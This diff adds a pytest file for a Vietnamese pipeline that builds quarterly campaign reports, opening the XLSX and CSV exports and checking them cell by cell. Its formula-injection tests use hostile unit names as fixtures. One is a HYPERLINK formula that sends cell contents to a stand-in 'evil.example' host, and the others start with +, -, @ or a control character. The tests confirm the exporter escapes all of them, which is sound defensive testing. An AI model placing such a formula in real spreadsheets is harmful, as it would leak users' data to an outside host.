@@ -1,0 +1,426 @@
+"""The upper-level report: built from real roll-up frames, opened back, checked cell by cell."""
+
+import csv
+import io
+import zipfile
+from dataclasses import replace
+from datetime import UTC, datetime
+from typing import Any
+
+import openpyxl
+import polars as pl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from dvkn_pipeline.catalogue import load_catalogue
+from dvkn_pipeline.delta_tables import ledger_polars_schema
+from dvkn_pipeline.export import COVER_SHEET, CSV_COLUMNS, export_csv, export_xlsx, safe_text
+from dvkn_pipeline.hierarchy import Hierarchy, load_hierarchies
+from dvkn_pipeline.normalize import empty_facts
+from dvkn_pipeline.periods import Period
+from dvkn_pipeline.rollup import completeness, rollup
+from dvkn_pipeline.temporal import temporal_rollup
+
+CAT = load_catalogue()
+Q1 = Period.parse("2025-Q1")
+HANOI = load_hierarchies().for_date(Q1.reference_date).subtree("01")
+ON_TIME = datetime(2025, 3, 16, tzinfo=UTC)
+LATE = datetime(2025, 3, 25, tzinfo=UTC)
+SHEETS = [COVER_SHEET, "Mô hình", "Đóng góp", "Đối thoại", "Nông thôn mới", "Gia đình văn hóa"]
+
+# Names a hostile or careless data file could carry.
+EVIL = {
+    "001": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "002": "+1",
+    "003": "-2+3",
+    "004": "@SUM(A1:A9)",
+    "005": "\tTab",
+    "006": "\r=1+1",
+}
+
+
+def fact(
+    unit: str, indicator: str, value: float, period: Period = Q1, **dims: str
+) -> dict[str, Any]:
+    return {
+        "submission_id": f"{unit}{period.code}".ljust(64, "0"),
+        "unit_code": unit,
+        "period": period.code,
+        "indicator": indicator,
+        **{d: dims.get(d) for d in CAT.dimension_columns},
+        "value": float(value),
+    }
+
+
+def ledger_row(
+    unit: str, status: str, at: datetime = ON_TIME, period: Period = Q1, n: int = 1
+) -> dict[str, Any]:
+    sub = f"{unit}{period.code}{n}".ljust(64, "0")
+    return {
+        "upload_id": f"{unit}/{period.code}/{n}#e",
+        "key": f"incoming/{unit}/{period.code}/{n}.csv",
+        "etag": "e",
+        "sha256": sub,
+        "size": 10,
+        "uploader": None,
+        "received_at": at,
+        "processed_at": at,
+        "status": status,
+        "unit_code": unit,
+        "period": period.code,
+        "report_version": 1,
+        "submission_id": sub if status != "rejected" else None,
+        "n_errors": 0,
+        "n_warnings": 0,
+        "receipt_key": "r",
+        "archive_key": None,
+        "flow_run_id": None,
+    }
+
+
+FACTS = [
+    # District 001 (Ba Đình): two communes and the district's own models.
+    fact("00001", "MH_DANG_KY", 3, field="KT", level="CS"),
+    fact("00001", "MH_DANG_KY", 2, field="VHXH", level="CS"),
+    fact("00004", "MH_DANG_KY", 4, field="KT", level="CS"),
+    fact("001", "MH_DANG_KY", 10, field="QPAN", level="HUYEN"),
+    fact("00001", "MH_CONG_NHAN", 1179, field="KT", level="CS", holder="TT"),
+    fact("00001", "MH_CONG_NHAN", 221, field="KT", level="CS", holder="CN"),
+    fact("00001", "TIEN_VAN_DONG", 21_000_000_000),
+    fact("00004", "DAT_HIEN", 3_864_463.5),
+    fact("00001", "NTM_MUC_DAT", 1, category="NANG_CAO"),
+    fact("00004", "NTM_MUC_DAT", 1, category="KIEU_MAU"),
+    fact("00001", "GD_VAN_HOA_DAT", 90),
+    fact("00001", "GD_TONG_SO", 100),
+    fact("00004", "GD_VAN_HOA_DAT", 100),
+    fact("00004", "GD_TONG_SO", 1000),
+    # District 002 (Hoàn Kiếm): one commune.
+    fact("00070", "MH_DANG_KY", 5, field="VHXH", level="CS"),
+    # The city's own models.
+    fact("01", "MH_DANG_KY", 7, field="XDHTCT", level="TINH"),
+]
+LEDGER = [
+    ledger_row("00001", "accepted"),
+    ledger_row("00004", "accepted", at=LATE),
+    ledger_row("00006", "rejected"),
+    ledger_row("00070", "accepted"),
+    ledger_row("001", "accepted"),
+    ledger_row("01", "accepted"),
+]
+
+
+def frames(
+    tree: Hierarchy = HANOI, period: Period = Q1, facts_rows: list[dict[str, Any]] | None = None
+) -> tuple[pl.DataFrame, pl.DataFrame]:
+    facts = pl.DataFrame(
+        FACTS if facts_rows is None else facts_rows, schema=empty_facts(CAT).schema
+    )
+    ledger = pl.DataFrame(LEDGER, schema=ledger_polars_schema())
+    return rollup(facts, tree, CAT, period), completeness(ledger, tree, CAT, period)
+
+
+def open_xlsx(data: bytes) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def find_row(ws: Worksheet, column: int, text: str) -> int:
+    for row in range(1, ws.max_row + 1):
+        if ws.cell(row, column).value == text:
+            return row
+    raise AssertionError(f"{text!r} not in column {column} of {ws.title}")
+
+
+def column_of(ws: Worksheet, key: str) -> int:
+    """Sheets carry each column's indicator code in row 7, under the vi and en headers."""
+    for col in range(1, ws.max_column + 1):
+        if ws.cell(7, col).value == key:
+            return col
+    raise AssertionError(f"no column {key!r} in {ws.title}")
+
+
+def cell(ws: Worksheet, unit: str, key: str) -> Any:
+    return ws.cell(find_row(ws, 1, unit), column_of(ws, key))
+
+
+@pytest.fixture(scope="module")
+def district_report() -> openpyxl.Workbook:
+    table, comp = frames()
+    return open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "district"))
+
+
+# -- the cover -------------------------------------------------------------------------
+
+
+def test_sheets_are_the_cover_then_one_per_catalogue_section(
+    district_report: openpyxl.Workbook,
+) -> None:
+    assert district_report.sheetnames == SHEETS
+
+
+def test_cover_names_unit_period_hierarchy_and_completeness(
+    district_report: openpyxl.Workbook,
+) -> None:
+    ws = district_report[COVER_SHEET]
+    assert ws["A1"].value == 'BÁO CÁO KẾT QUẢ PHONG TRÀO THI ĐUA "DÂN VẬN KHÉO"'
+    assert ws["B4"].value == "Thành phố Hà Nội (01)"
+    assert ws["B5"].value == "Quý I/2025 (Quarter 1 of 2025, 2025-Q1)"
+    assert ws["B6"].value == "Quận/Huyện / District"
+    assert ws["B7"].value == "vn-3level-2025-01"
+    assert ws["B8"].value == CAT.version
+    # 1 of 30 districts and 3 of 526 communes sent an accepted report.
+    assert ws["A9"].value == "Tình hình báo cáo"
+    assert ws["B9"].value == "1/30 quận/huyện, 3/526 xã/phường đã báo cáo hợp lệ"
+    assert ws["B10"].value == "1/30 districts, 3/526 communes reported (accepted of expected)"
+
+
+def test_cover_completeness_table_cell_by_cell(district_report: openpyxl.Workbook) -> None:
+    ws = district_report[COVER_SHEET]
+    head = find_row(ws, 1, "Kỳ")
+    assert [ws.cell(head, c).value for c in range(1, 11)] == [
+        "Kỳ",
+        "Cấp báo cáo",
+        "Phải báo cáo",
+        "Đã nhận",
+        "Hợp lệ",
+        "Bị từ chối",
+        "Đúng hạn",
+        "Trễ hạn",
+        "Chưa báo cáo",
+        "Tỷ lệ hợp lệ (%)",
+    ]
+    assert ws.cell(head + 1, 3).value == "Expected"
+    rows = {ws.cell(r, 2).value: r for r in range(head + 2, head + 5)}
+    assert list(rows) == [
+        "Tỉnh/Thành phố / Province/City",
+        "Quận/Huyện / District",
+        "Xã/Phường/Thị trấn / Commune",
+    ]
+    commune = [ws.cell(rows["Xã/Phường/Thị trấn / Commune"], c).value for c in range(1, 10)]
+    #                                   expected rec acc rej on_time late missing
+    assert commune == ["2025-Q1", "Xã/Phường/Thị trấn / Commune", 526, 4, 3, 1, 2, 1, 522]
+    district = [ws.cell(rows["Quận/Huyện / District"], c).value for c in range(3, 10)]
+    assert district == [30, 1, 1, 0, 1, 0, 29]
+    share = ws.cell(rows["Xã/Phường/Thị trấn / Commune"], 10)
+    assert share.value == pytest.approx(100 * 3 / 526) and share.number_format == "0.00"
+
+
+def test_cover_lists_each_units_completeness(district_report: openpyxl.Workbook) -> None:
+    ws = district_report[COVER_SHEET]
+    r = find_row(ws, 1, "Tình hình báo cáo theo đơn vị / Completeness by unit")
+    rows = [
+        [ws.cell(i, c).value for c in range(1, 9)]
+        for i in range(r + 3, ws.max_row + 1)
+        if ws.cell(i, 1).value == "001"
+    ]
+    assert rows == [
+        ["001", "Quận Ba Đình", "2025-Q1", "Quận/Huyện / District", 1, 1, 1, 0],
+        ["001", "Quận Ba Đình", "2025-Q1", "Xã/Phường/Thị trấn / Commune", 13, 3, 2, 1],
+    ]
+
+
+# -- the section sheets ---------------------------------------------------------------
+
+
+def test_models_sheet_has_a_row_per_district_then_the_city_total(
+    district_report: openpyxl.Workbook,
+) -> None:
+    ws = district_report["Mô hình"]
+    assert ws["A1"].value == 'Mô hình "Dân vận khéo" — Quý I/2025'
+    assert ws["A5"].value == "Mã đơn vị" and ws["B6"].value == "Unit name"
+    col = column_of(ws, "MH_DANG_KY")
+    assert ws.cell(5, col).value == 'Số mô hình "Dân vận khéo" đăng ký (mô hình)'
+    assert ws.cell(6, col).value == "Models registered (models)"
+    codes = [ws.cell(r, 1).value for r in range(8, ws.max_row + 1)]
+    assert codes == [u.code for u in HANOI.units_at("district")] + ["01"]
+    assert ws.cell(8, 2).value == "Quận Ba Đình"
+    assert ws.cell(ws.max_row, 2).value == "Tổng cộng / Total: Thành phố Hà Nội"
+    c = cell(ws, "001", "MH_DANG_KY")
+    assert c.value == 3 + 2 + 4 + 10 and c.data_type == "n" and c.number_format == "#,##0"
+    assert cell(ws, "002", "MH_DANG_KY").value == 5
+    assert cell(ws, "01", "MH_DANG_KY").value == 3 + 2 + 4 + 10 + 5 + 7
+    assert cell(ws, "01", "MH_DANG_KY").font.b  # the total row is bold
+    assert cell(ws, "001", "MH_CONG_NHAN").value == 1400  # 1,179 collectives + 221 individuals
+    assert cell(ws, "003", "MH_DANG_KY").value is None  # no report: blank, not 0
+
+
+def test_money_and_land_keep_their_precision_and_formats(
+    district_report: openpyxl.Workbook,
+) -> None:
+    ws = district_report["Đóng góp"]
+    money = cell(ws, "001", "TIEN_VAN_DONG")
+    assert money.value == 21_000_000_000 and money.number_format == "#,##0"
+    land = cell(ws, "001", "DAT_HIEN")
+    assert land.value == 3_864_463.5 and land.number_format == "#,##0.00"
+
+
+def test_status_columns_count_units_per_category(district_report: openpyxl.Workbook) -> None:
+    ws = district_report["Nông thôn mới"]
+    assert cell(ws, "001", "NTM_MUC_DAT:NANG_CAO").value == 1
+    assert cell(ws, "001", "NTM_MUC_DAT:KIEU_MAU").value == 1
+    assert cell(ws, "001", "NTM_MUC_DAT:DAT_CHUAN").value == 0  # reported: zero in this one
+    assert cell(ws, "002", "NTM_MUC_DAT:DAT_CHUAN").value is None  # nothing reported
+    header = ws.cell(5, column_of(ws, "NTM_MUC_DAT:KIEU_MAU")).value
+    assert header == "Mức đạt chuẩn nông thôn mới của xã: Nông thôn mới kiểu mẫu (xã)"
+
+
+def test_ratio_sits_beside_its_numerator_and_denominator(
+    district_report: openpyxl.Workbook,
+) -> None:
+    ws = district_report["Gia đình văn hóa"]
+    assert cell(ws, "001", "TL_GD_VAN_HOA").value == pytest.approx(100 * 190 / 1100)
+    assert cell(ws, "001", "TL_GD_VAN_HOA").number_format == "0.00"
+    assert cell(ws, "001", "TL_GD_VAN_HOA:numerator").value == 190
+    assert cell(ws, "001", "TL_GD_VAN_HOA:denominator").value == 1100
+    assert ws.cell(5, column_of(ws, "TL_GD_VAN_HOA:denominator")).value == (
+        "Mẫu số: Tổng số hộ gia đình"
+    )
+
+
+def test_city_level_is_one_row_and_units_pick_rows_in_order() -> None:
+    table, comp = frames()
+    ws = open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "city"))["Mô hình"]
+    assert [ws.cell(r, 1).value for r in range(8, ws.max_row + 1)] == ["01"]
+    assert ws.cell(8, column_of(ws, "MH_DANG_KY")).value == 31
+    picked = open_xlsx(export_xlsx(table, comp, HANOI, CAT, Q1, "commune", ["00004", "00001"]))
+    ws = picked["Mô hình"]
+    assert [ws.cell(r, 1).value for r in range(8, ws.max_row + 1)] == ["00004", "00001"]
+    assert ws.cell(9, column_of(ws, "MH_DANG_KY")).value == 5
+
+
+def test_empty_frames_still_give_a_report_that_says_so() -> None:
+    wb = open_xlsx(export_xlsx(pl.DataFrame(), pl.DataFrame(), HANOI, CAT, Q1, "district"))
+    assert wb[COVER_SHEET]["B9"].value == "chưa có dữ liệu"
+    assert find_row(wb[COVER_SHEET], 1, "Chưa có dữ liệu / no data")
+    assert wb["Mô hình"].cell(8, 3).value is None
+
+
+def test_a_quarter_built_from_months_shows_each_months_completeness() -> None:
+    months = [Period.parse(f"2025-M0{m}") for m in (1, 2, 3)]
+    tables, comps = {}, []
+    for i, p in enumerate(months):
+        facts = [fact("00001", "QUA_TANG", 10 * (i + 1), period=p)]
+        ledger = pl.DataFrame(
+            [
+                ledger_row(u, "accepted", datetime(2025, i + 1, 15, tzinfo=UTC), p)
+                for u in (["00001", "00004"] if i else ["00001"])
+            ],
+            schema=ledger_polars_schema(),
+        )
+        f = pl.DataFrame(facts, schema=empty_facts(CAT).schema)
+        tables[p.code] = rollup(f, HANOI, CAT, p)
+        comps.append(completeness(ledger, HANOI, CAT, p))
+    quarter = temporal_rollup(tables, Q1, CAT)
+    wb = open_xlsx(export_xlsx(quarter, pl.concat(comps), HANOI, CAT, Q1, "district"))
+    assert wb[COVER_SHEET]["B9"].value == (
+        "2025-M01: 0/30 quận/huyện, 1/526 xã/phường; "
+        "2025-M02: 0/30 quận/huyện, 2/526 xã/phường; "
+        "2025-M03: 0/30 quận/huyện, 2/526 xã/phường đã báo cáo hợp lệ"
+    )
+    ws = wb["Đóng góp"]
+    assert cell(ws, "001", "QUA_TANG").value == 60
+
+
+def test_frames_of_another_period_or_hierarchy_are_refused() -> None:
+    table, comp = frames()
+    with pytest.raises(ValueError, match="not 2025-Q2"):
+        export_xlsx(table, comp, HANOI, CAT, Period.parse("2025-Q2"), "district")
+    q3 = Period.parse("2025-Q3")
+    two_level = load_hierarchies().for_date(q3.reference_date).subtree("01")
+    with pytest.raises(ValueError, match="level 'district' is not in hierarchy vn-2level"):
+        export_xlsx(pl.DataFrame(), pl.DataFrame(), two_level, CAT, q3, "district")
+    relabelled = table.with_columns(pl.lit("2025-Q3").alias("period"))
+    with pytest.raises(ValueError, match="unit codes would name the wrong units"):
+        export_csv(relabelled, two_level, CAT, q3, "commune")
+
+
+# -- formula injection ---------------------------------------------------------------
+
+
+def hostile_hanoi() -> Hierarchy:
+    units = [replace(u, name=EVIL[u.code]) if u.code in EVIL else u for u in HANOI]
+    return Hierarchy(HANOI.version_id, HANOI.valid_from, HANOI.valid_to, HANOI.levels, units)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("  =1+1", "'  =1+1"),
+        ("＝1+1", "'＝1+1"),
+        ("Phường Phúc Xá", "Phường Phúc Xá"),
+        ("Xã 1-2", "Xã 1-2"),
+        ("", ""),
+    ],
+)
+def test_safe_text_prefixes_only_what_could_start_a_formula(text: str, expected: str) -> None:
+    assert safe_text(text) == expected
+
+
+def test_no_exported_cell_is_a_formula_whatever_the_unit_names() -> None:
+    tree = hostile_hanoi()
+    table, comp = frames(tree)
+    data = export_xlsx(table, comp, tree, CAT, Q1, "district")
+    wb = open_xlsx(data)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
+                if isinstance(c.value, str) and c.value and c.value[0] in "=+-@\t\r":
+                    raise AssertionError(f"{ws.title}!{c.coordinate} starts a formula: {c.value!r}")
+    ws = wb["Mô hình"]
+    assert ws.cell(find_row(ws, 1, "001"), 2).value == "'" + EVIL["001"]
+    assert ws.cell(find_row(ws, 1, "002"), 2).value == "'+1"
+    assert ws.cell(find_row(ws, 1, "004"), 2).value == "'@SUM(A1:A9)"
+    cover = wb[COVER_SHEET]
+    assert "'" + EVIL["001"] in [cover.cell(r, 2).value for r in range(1, cover.max_row + 1)]
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
+
+
+# -- CSV ---------------------------------------------------------------------------------
+
+
+def read_csv(data: bytes) -> list[dict[str, str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads Vietnamese right
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_has_the_sheets_rows_in_long_form() -> None:
+    table, _ = frames()
+    rows = read_csv(export_csv(table, HANOI, CAT, Q1, "district"))
+    assert list(rows[0]) == list(CSV_COLUMNS)
+    per_unit = len(CAT.indicators) - 1 + len(CAT.model.dimensions["ntm_standard"].values)
+    assert len(rows) == 31 * per_unit  # 30 districts and the city, every figure
+    got = {(r["unit_code"], r["indicator"], r["category"]): r for r in rows}
+    reg = got[("001", "MH_DANG_KY", "")]
+    assert reg["unit_name"] == "Quận Ba Đình" and reg["value"] == "19"
+    assert reg["name_vi"] == 'Số mô hình "Dân vận khéo" đăng ký'
+    assert reg["name_en"] == "Models registered"
+    assert got[("001", "DAT_HIEN", "")]["value"] == "3864463.5"
+    assert got[("001", "NTM_MUC_DAT", "KIEU_MAU")]["value"] == "1"
+    assert got[("001", "NTM_MUC_DAT", "DAT_CHUAN")]["value"] == "0"
+    assert got[("002", "NTM_MUC_DAT", "DAT_CHUAN")]["value"] == ""
+    ratio = got[("001", "TL_GD_VAN_HOA", "")]
+    assert float(ratio["value"]) == pytest.approx(100 * 190 / 1100)
+    assert (ratio["numerator"], ratio["denominator"]) == ("190", "1100")
+    assert got[("01", "MH_DANG_KY", "")]["value"] == "31"
+    assert got[("003", "MH_DANG_KY", "")]["value"] == ""
+
+
+def test_csv_guards_text_against_formulas() -> None:
+    tree = hostile_hanoi()
+    table, _ = frames(tree)
+    rows = read_csv(export_csv(table, tree, CAT, Q1, "district"))
+    names = {r["unit_code"]: r["unit_name"] for r in rows}
+    for code, evil in EVIL.items():
+        assert names[code] == "'" + evil
+    for r in rows:
+        for v in r.values():
+            assert not v or v[0] not in "=+-@\t\r", r
